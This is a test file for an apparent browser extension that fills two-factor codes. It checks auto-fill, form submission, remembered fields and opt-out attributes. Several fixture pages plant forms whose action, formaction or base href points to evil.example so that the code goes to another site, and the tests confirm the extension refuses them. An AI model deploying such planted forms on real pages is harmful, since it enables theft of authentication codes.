// F2, F4 and E7 in real Chromium: what a person chose for one site. Filled in without a click there, once; sent, by the form's
// own button; fields that they pointed at, known again; fields that a page asks to be left alone, left alone.
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { screenshot } from '../e2e/browsers.ts'
import {
  type Armed,
  arm,
  buttonBox,
  clickButton,
  passphrase,
  pretend,
  promptText,
  use,
  waitForButton,
} from './ground.ts'

const heading = '<h1>Two-factor authentication</h1>'
const label = '<label>Authentication code <input id="code" name="otp"></label>'
const form = (inside: string, attributes = '') => `${heading}<form ${attributes}>${inside}</form>
  <script>globalThis.sent = []; addEventListener('submit', event => { event.preventDefault(); sent.push(event.submitter?.id ?? 'none') })</script>`
const origin = 'https://shop.example'

const pages: Record<string, string> = {
  '/': form(label),
  '/one': `${form(`${label}<button id="verify">Verify</button>`)}<form><input name="q"><button id="search">Search</button></form>`,
  '/late': form(`${label}<button id="verify" disabled>Verify</button><script>
    document.querySelector('#code').addEventListener('input', () => setTimeout(() => { document.querySelector('#verify').disabled = false }, 200))</script>`),
  '/two': form(`${label}<button id="other">Not now</button><button id="verify">Verify</button>`),
  '/bare': form(label),
  '/formless': `${heading}${label}<form><input name="q"><button id="search">Search</button></form>`,
  '/itself': form(`${label}<button id="verify">Verify</button><script>
    document.querySelector('#code').addEventListener('input', ({ target }) => { if (target.value.length === 6) target.form.requestSubmit() })</script>`),
  '/planted': form(
    `${label}<button id="verify">Verify</button>`,
    'action="https://evil.example/take" method="post"',
  ),
  '/planted-button': form(
    `${label}<button id="verify" formaction="https://evil.example/take">Verify</button>`,
  ),
  '/planted-base': `<base href="https://evil.example/">${form(`${label}<button id="verify">Verify</button>`, 'action="/take" method="post"')}`,
  '/typed': `${form(`<label>Authentication code <input id="code" name="otp" value="12"></label>`)}`,
  '/odd':
    '<h1>Profile</h1><form><label>Nickname <input id="code" name="nick"></label><label>Search <input name="q"></label></form>',
  '/odd-late': `<h1>Profile</h1><form></form><script>setTimeout(() => {
    document.querySelector('form').innerHTML = '<label>Nickname <input id="code" name="nick"></label>' }, 600)</script>`,
  '/frame': `<h1>Shop</h1><iframe src="https://pay.example/"></iframe><iframe src="/" sandbox="allow-scripts"></iframe>`,
}
for (const attribute of [
  'data-1p-ignore',
  'data-op-ignore',
  'data-lpignore="true"',
  'data-bwignore',
  'data-protonpass-ignore',
  'data-form-type="other"',
])
  pages[`/out-${attribute.replaceAll(/\W/g, '')}`] = form(
    label.replace('id="code"', `id="code" ${attribute}`),
  )

let armed: Armed
let page: Page
let mira: string

beforeAll(async () => {
  armed = await arm()
  page = await armed.context.newPage()
  await pretend(page, {
    [origin]: pages,
    'https://pay.example': pages['/'] ?? '',
    'https://www.shop.example': pages,
  })
  mira = await armed.add('Shop', [origin])
})
afterAll(() => armed?.close())

const value = () => page.locator('#code').inputValue()
const filled = () => expect.poll(value).toMatch(/^\d{6}$/)
const rest = () => page.waitForTimeout(900)
const sent = () => page.evaluate('globalThis.sent')
async function visit(path: string, at = origin): Promise<void> {
  await page.goto(`${at}${path}`)
  await page.bringToFront()
}
const choose = (changes: object, at = origin) => armed.send('setSite', { origin: at, ...changes })
async function popup(): Promise<Page> {
  const open = await armed.openExtension('clipboard.html')
  const id = await open.evaluate(
    `chrome.tabs.query({}).then(tabs => tabs.find(({ url }) => url === '${page.url()}').id)`,
  )
  await open.setViewportSize({ width: 380, height: 576 })
  await open.goto(open.url().replace(/clipboard.*/, `popup.html?tab=${id}`))
  await open.getByRole('button', { name: /^This site/ }).click()
  return open
}

describe('without a click', () => {
  test('nothing, until it is chosen for the site', async () => {
    await visit('/')
    await waitForButton(page)
    await rest()
    expect(await value()).toBe('')
  })

  test('chosen in the popup, the next page is filled when it loads', async () => {
    const open = await popup()
    await open.getByLabel('Fill in the code by itself').selectOption({ label: 'Shop, mira' })
    await expect
      .poll(() => armed.send('sites', {}))
      .toMatchObject({ value: { sites: [{ origin, automatic: mira }] } })
    for (const colorScheme of ['dark', 'light'] as const) {
      await open.emulateMedia({ colorScheme })
      await screenshot(open, `popup-${colorScheme}-this-site`)
    }
    await open.close()
    await visit('/')
    await filled()
    expect(await sent()).toEqual([])
  })

  test('E7: and then no more, however often it reloads, until the person clicks', async () => {
    for (let time = 0; time < 5; time += 1) {
      await visit('/')
      await waitForButton(page)
      await page.waitForTimeout(400)
      expect(await value()).toBe('')
    }
    await clickButton(page)
    await filled()
    await visit('/')
    await filled()
  })

  describe('not', () => {
    // Chosen anew, so that each of these would be filled if it were for the rest alone.
    beforeEach(() => choose({ automatic: mira }))

    test('on another host of the site', async () => {
      await visit('/', 'https://www.shop.example')
      await waitForButton(page)
      await rest()
      expect(await value()).toBe('')
    })

    test.each(['/planted', '/planted-base'])(
      'into a form that sends the code to another site: %s',
      async path => {
        await visit(path)
        await waitForButton(page)
        await rest()
        expect(await value()).toBe('')
      },
    )

    test('over what was typed', async () => {
      await visit('/typed')
      await rest()
      expect(await value()).toBe('12')
    })

    test('into cross-site and sandboxed frames', async () => {
      await choose({ automatic: await armed.add('Pay', ['https://pay.example']) }, 'https://pay.example')
      await visit('/frame')
      await rest()
      for (const frame of page.frames().slice(1)) expect(await frame.locator('#code').inputValue()).toBe('')
    })

    test('in a tab that is not in sight, until it is', async () => {
      const other = await armed.context.newPage()
      await page.evaluate(() => {
        setTimeout(() => location.assign('/'), 300)
      })
      await other.bringToFront()
      await other.waitForTimeout(1500)
      expect(await value()).toBe('')
      await page.bringToFront()
      // No headless browser tells its pages when they come into sight.
      await page.evaluate(() => document.dispatchEvent(new Event('visibilitychange')))
      await filled()
      await other.close()
    })

    test('with two accounts and none chosen; the chosen one’s code with one of them chosen', async () => {
      const noor = await armed.add('Second', [origin])
      await choose({ automatic: null })
      await visit('/')
      await waitForButton(page)
      await rest()
      expect(await value()).toBe('')
      await choose({ automatic: noor })
      await visit('/')
      await filled()
      expect(JSON.stringify(await armed.send('codes', { ids: [noor] }))).toContain(await value())
      await armed.send('remove', { id: noor })
    })

    test('for a chosen account that was deleted since, or the site taken from', async () => {
      await visit('/')
      await waitForButton(page)
      await rest()
      expect(await value()).toMatch(/^\d{6}$/)
      await choose({ automatic: mira })
      await armed.send('edit', { id: mira, sites: [] })
      await visit('/')
      await rest()
      expect(await value()).toBe('')
      await armed.send('edit', { id: mira, sites: [origin] })
      await choose({ automatic: null })
    })
  })
})

describe('sending the form', () => {
  test('not, until it is chosen for the site', async () => {
    await visit('/one')
    await clickButton(page)
    await filled()
    await rest()
    expect(await sent()).toEqual([])
  })

  test.each([
    ['/one', ['verify']],
    ['/late', ['verify']],
    ['/bare', ['none']],
    ['/itself', ['none']],
    ['/two', []],
    ['/formless', undefined],
    ['/planted', []],
    ['/planted-button', []],
    ['/planted-base', []],
  ])('%s: %j', async (path, expected) => {
    await choose({ submit: true })
    await visit(path)
    await clickButton(page)
    await filled()
    await rest()
    expect(await sent()).toEqual(expected)
  })

  test('by the popup, too', async () => {
    await visit('/one')
    await armed.fill(page, mira)
    await expect.poll(sent).toEqual(['verify'])
    await choose({ submit: false })
  })
})

describe('a field that a person pointed at', () => {
  test('is taken for the code’s, now and when its site comes again, rendered late or not', async () => {
    await visit('/odd')
    await page.locator('#code').click()
    await rest()
    expect(await buttonBox(page)).toBeUndefined()
    await use(armed, 'is-code')
    await expect.poll(() => promptText(page)).toContain('Remembered: this is the code field.')
    for (const path of ['/odd', '/odd-late']) {
      await visit(path)
      await clickButton(page)
      await filled()
    }
  })

  test('another field, or another origin, is not', async () => {
    await visit('/odd', 'https://www.shop.example')
    await page.locator('#code').click()
    await rest()
    expect(await buttonBox(page)).toBeUndefined()
  })

  test('is forgotten in the popup', async () => {
    await visit('/odd')
    await waitForButton(page)
    const open = await popup()
    await open.getByText('Nickname: the code field').waitFor()
    await open.getByRole('button', { name: 'Forget Nickname' }).click()
    await open.getByText(/Right-click a field/).waitFor()
    await open.close()
    await visit('/odd')
    await page.locator('#code').click()
    await rest()
    expect(await buttonBox(page)).toBeUndefined()
  })

  test('is left alone, where they said that it is none', async () => {
    await visit('/')
    await waitForButton(page)
    await page.locator('#code').click()
    await use(armed, 'is-no-code')
    await expect.poll(() => promptText(page)).toContain('Remembered: this is not a code field.')
    await visit('/')
    await page.locator('#code').click()
    await rest()
    expect(await buttonBox(page)).toBeUndefined()
    await use(armed, 'shortcut')
    await rest()
    expect(await value()).toBe('')
  })

  test('needs an open vault, and is nowhere to be read in a locked one', async () => {
    expect(JSON.stringify(await armed.send('sites', {}))).toContain('Authentication code')
    await armed.send('lock', {})
    const own = await armed.openExtension('clipboard.html')
    const stored = await own.evaluate(
      'Promise.all([chrome.storage.local.get(null), chrome.storage.session.get(null)]).then(JSON.stringify)',
    )
    expect(stored).not.toMatch(/shop\.example|Authentication/)
    await own.close()
    expect(await armed.send('sites', {})).toEqual({ ok: false, refusal: 'locked' })
    expect(await choose({ submit: true })).toEqual({ ok: false, refusal: 'locked' })
    await armed.send('unlock', { passphrase })
    await armed.send('forgetSite', { origin })
  })
})

describe('a field that its page asks to be left alone', () => {
  test.each(Object.keys(pages).filter(path => path.startsWith('/out-')))('%s', async path => {
    await choose({ automatic: mira })
    await visit(path)
    await page.locator('#code').click()
    await rest()
    expect(await buttonBox(page)).toBeUndefined()
    expect(await value()).toBe('')
  })
})
